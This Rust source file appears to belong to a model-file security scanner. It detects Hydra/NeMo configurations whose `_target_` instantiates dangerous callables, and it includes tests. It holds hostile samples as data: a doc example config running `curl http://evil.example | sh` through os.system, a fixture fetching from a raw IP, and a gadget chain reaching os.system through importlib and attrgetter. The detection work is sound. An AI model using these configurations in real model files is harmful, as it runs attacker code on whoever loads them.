//! Callables that a configuration names: Hydra's `_target_`, NeMo's and OmegaConf's relatives, Hugging Face class paths.
//!
//! `hydra.utils.instantiate` imports the dotted path and calls it with the settings beside it.

use crate::Scan;
use crate::call::{self, Argument, Call, How, Name, json};
use crate::pickle::knowledge::{GadgetClass, Standing, standing};
use crate::wire::json_tree::{Document, NodeId};
use bartizan_core::{Confidence, Finding, Location, Severity, atlas, cwe, owasp_llm, rule};

rule! {
    /// ## What it finds
    /// A configuration that names a dangerous callable where a loader instantiates it: `_target_: os.system`,
    /// `subprocess.Popen`, `builtins.eval`, also when reached through another module (`numpy.os.system`).
    /// ## Why it matters
    /// `hydra.utils.instantiate` imports the path and calls it with the neighbouring settings as arguments. Loading
    /// the model runs the command.
    /// ## Example
    /// ```yaml
    /// _target_: os.system
    /// _args_: ["curl http://evil.example | sh"]
    /// ```
    /// ## How to fix
    /// Do not load the model. A configuration needs classes of its own framework only.
    /// ## References
    /// - CVE-2025-23304, NVIDIA NeMo; Hydra documentation, *Instantiating objects*
    /// - CWE-470, Use of Externally-Controlled Input to Select Classes or Code
    pub const CONFIG_TARGET: Rule = Rule {
        id: "model/config-instantiates",
        title: "a configuration that instantiates a dangerous callable",
        severity: Severity::Critical,
        remedy: "Do not load the model; remove the target, and allow only classes of the framework it is for.",
        taxonomies: &[atlas("AML.T0011.000"), atlas("AML.T0010.003"), cwe(470), cwe(94), owasp_llm("LLM03")],
    };
}

/// Whether the setting called `key` names something a loader imports and calls.
pub fn is_target_key(key: &str) -> bool {
    matches!(
        key,
        "_target_"
            | "_target"
            | "__target__"
            | "target"
            | "_class_path_"
            | "class_path"
            | "cls"
            | "_call_"
            | "__class_path__"
            | "_function_"
            | "class_name_or_path"
            | LOOKED_UP
    )
}

/// The setting of Hydra's look-ups that names what they import; anywhere else it is a file.
const LOOKED_UP: &str = "path";

/// Hydra's functions that import what `path` beside them names and hand it on, without calling it.
fn is_lookup(target: &str) -> bool {
    matches!(target, "hydra.utils.get_class" | "hydra.utils.get_method" | "hydra.utils.get_object")
}

/// Settings of a target's mapping that say how it is called and are not handed to it.
const MANNERS: &[&str] = &["_target_", "_args_", "_recursive_", "_convert_", "_partial_"];

/// Whether the setting called `key` beside a target is handed to what the target names.
pub fn is_argument(key: &str) -> bool {
    !MANNERS.contains(&key) && !is_target_key(key)
}

/// Judges the dotted path `target` under the setting `key`, found at `place`; `call` is what the settings beside it make
/// of it, where they could be read.
pub fn inspect_target(key: &str, target: &str, call: Option<Call>, place: &Location, scan: &mut Scan<'_>) {
    let target = target.trim();
    let dotted = !target.is_empty()
        && target.len() < 512
        && target.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '.' | ':'));
    if !dotted {
        return;
    }
    let target = target.replace(':', ".");
    // `target`, `cls` and the like are also plain words; only Hydra's own keys make a bare word a callable.
    let explicit = key.starts_with('_') || key == "class_path";
    if !explicit && !target.contains('.') {
        return;
    }
    let direct = Name::of_path(&target);
    let known = standing(&direct.module, &direct.name);
    // A path may walk through any module that imports the dangerous one: `pkg.mod.os.system`.
    let through = call::reached_through(&target, 1, Severity::Info);
    if key == LOOKED_UP {
        looked_up(key, &target, &direct, through.as_ref(), place, scan);
        return;
    }
    if is_lookup(&target) {
        // What it looks up is judged under its own setting.
        let message = format!("`{key}` instantiates `{target}`, which imports what `path` beside it names");
        scan.report(
            Finding::new(&CONFIG_TARGET, message).severity(Severity::Low).located(place).evidence(&target),
        );
        return;
    }
    let is_roundabout = through.is_some() && !matches!(known, Standing::Gadget { .. });
    let callee = if is_roundabout { through.unwrap_or(direct) } else { direct };
    let call = Call { callee, ..call.unwrap_or_else(|| Call::of_path(&target, How::Called)) };
    if known == Standing::Unknown && !is_roundabout && (!explicit || is_framework(&call.callee.module)) {
        return;
    }
    let Some(verdict) = call::verdict(&call, place.offset.unwrap_or_default(), scan) else { return };
    let (severity, message) = if known == Standing::Unknown && !is_roundabout {
        // A function of nobody's framework whose own name says that it executes its settings.
        let name = &call.callee.name;
        let runs = name.starts_with(|c: char| c.is_lowercase()) && name.split('_').any(says_execution);
        let severity = if runs { Severity::High } else { verdict.severity };
        let message =
            format!("`{key}` instantiates `{target}`, a callable of no known framework: it {}", verdict.does);
        (severity, message)
    } else {
        let way = if is_roundabout { " through other modules" } else { "" };
        (verdict.severity, format!("`{key}` instantiates `{target}`{way}: it {}", verdict.does))
    };
    let confidence =
        if known == Standing::Unknown && !is_roundabout { Confidence::Low } else { Confidence::High };
    let finding = Finding::new(&CONFIG_TARGET, message).severity(severity).confidence(confidence);
    scan.report(finding.located(place).evidence(&target));
}

/// Judges `target` where a loader looks it up without calling it.
fn looked_up(
    key: &str,
    target: &str,
    direct: &Name,
    through: Option<&Name>,
    place: &Location,
    scan: &mut Scan<'_>,
) {
    let names = [Some(direct), through].into_iter().flatten();
    let found = names.map(|name| standing(&name.module, &name.name)).find_map(|found| match found {
        // Whatever its package, a name like `load_model` is a folder as well.
        Standing::Gadget { class: GadgetClass::NestedPickle, .. } => None,
        Standing::Gadget { severity, why, .. } if severity >= Severity::High => Some(why),
        _ => None,
    });
    let Some(why) = found else { return };
    let message = format!("`{key}` names `{target}`, which {why}, for a loader to look up");
    scan.report(
        Finding::new(&CONFIG_TARGET, message)
            .severity(Severity::High)
            .confidence(Confidence::Medium)
            .located(place)
            .evidence(target),
    );
}

/// The call that the object at `id` of a JSON text describes, when one of its settings is a target.
pub fn call_of(document: &Document<'_>, id: NodeId) -> Option<Call> {
    described(document, id, NESTED)
}

fn described(document: &Document<'_>, id: NodeId, depth: u32) -> Option<Call> {
    let target = document.children(id).find(|&child| is_target_key(document.key(child)))?;
    let path = document.text(target)?.trim().replace(':', ".");
    // What a nested target gives is the argument; deeper than this it is nobody's business.
    let special = |id: NodeId| {
        let call = depth.checked_sub(1).and_then(|depth| described(document, id, depth))?;
        Some(Argument::Result(Box::new(call)))
    };
    let positional = document.get(id, "_args_").map(|given| json::argument(document, given, &special));
    let arguments = match positional {
        Some(Argument::Sequence(items)) => items,
        Some(other) => vec![other],
        None => Vec::new(),
    };
    let mut keywords = json::keywords(document, id, MANNERS, &special);
    keywords.retain(|(key, _)| is_argument(key));
    Some(Call { arguments, keywords, ..Call::of_path(&path, How::Called) })
}

/// Targets inside targets whose calls are read as arguments.
const NESTED: u32 = 4;

fn says_execution(word: &str) -> bool {
    matches!(
        word,
        "eval" | "exec" | "system" | "shell" | "popen" | "spawn" | "cmd" | "command" | "backdoor" | "payload"
    )
}

/// Packages whose own configurations use targets.
fn is_framework(module: &str) -> bool {
    let top = module.split('.').next().unwrap_or_default();
    matches!(
        top,
        "torch"
            | "torchvision"
            | "torchaudio"
            | "torchmetrics"
            | "torchtune"
            | "nemo"
            | "nemo_toolkit"
            | "megatron"
            | "lightning"
            | "lightning_fabric"
            | "pytorch_lightning"
            | "hydra"
            | "omegaconf"
            | "transformers"
            | "diffusers"
            | "ldm"
            | "sgm"
            | "timm"
            | "keras"
            | "tensorflow"
            | "jax"
            | "flax"
            | "optax"
            | "numpy"
            | "sklearn"
            | "apex"
            | "bitsandbytes"
            | "peft"
            | "accelerate"
            | "datasets"
            | "tokenizers"
            | "cosmos"
            | "nv_one_logger"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use bartizan_core::{Limits, MonotonicClock};

    fn worst(key: &str, target: &str) -> Option<Severity> {
        let (limits, clock) = (Limits::default(), MonotonicClock::start());
        let mut scan = Scan::new(&limits, &clock);
        inspect_target(key, target, None, &Location::default(), &mut scan);
        scan.findings().iter().map(|finding| finding.severity).max()
    }

    #[test]
    fn framework_classes_and_plain_words_are_silent() {
        assert_eq!(worst("_target_", "nemo.collections.asr.modules.ConvASREncoder"), None);
        assert_eq!(worst("target", "price"), None);
        assert_eq!(worst("target", "a sentence about os.system"), None);
    }

    #[test]
    fn a_lookup_is_judged_by_what_it_looks_up() {
        assert_eq!(worst("_target_", "hydra.utils.get_class"), Some(Severity::Low));
        assert_eq!(worst("path", "torch.utils.data.DataLoader"), None);
        assert_eq!(worst("path", "checkpoints.load_model"), None);
        assert_eq!(worst("path", "os.system"), Some(Severity::High));
        assert_eq!(worst("_target_", "hydra.utils.instantiate"), Some(Severity::Critical));
    }

    #[test]
    fn an_unknown_callable_gets_a_look() {
        assert_eq!(worst("_target_", "harvest_tools.Runner"), Some(Severity::Low));
        assert_eq!(worst("_target_", "harvest_tools.shell_runner"), Some(Severity::High));
    }

    fn worst_of(text: &str) -> Option<Severity> {
        let document = crate::wire::json_tree::parse(text);
        let call = document.root().and_then(|root| call_of(&document, root)).unwrap();
        let (limits, clock) = (Limits::default(), MonotonicClock::start());
        let mut scan = Scan::new(&limits, &clock);
        let target = format!("{}.{}", call.callee.module, call.callee.name);
        inspect_target("_target_", &target, Some(call), &Location::default(), &mut scan);
        scan.findings().iter().map(|finding| finding.severity).max()
    }

    #[test]
    fn the_settings_beside_a_target_decide_about_an_unknown_one() {
        let fetch = r#"{"_target_": "harvest_tools.fetch", "source": "http://203.0.113.7/x"}"#;
        assert_eq!(worst_of(fetch), Some(Severity::High));
        assert_eq!(worst_of(r#"{"_target_": "harvest_tools.Runner", "steps": 3}"#), Some(Severity::Low));
        assert_eq!(worst_of(r#"{"_target_": "torch.optim.Adam", "lr": 1}"#), None);
        assert_eq!(worst_of(r#"{"_target_": "os.system", "_args_": ["true"]}"#), Some(Severity::Critical));
        let chain = r#"{"_target_": "builtins.map", "_args_": [{"_target_": "operator.attrgetter",
            "_args_": ["system"]}, [{"_target_": "importlib.import_module", "_args_": ["os"]}]]}"#;
        assert!(worst_of(chain) >= Some(Severity::Medium));
    }
}
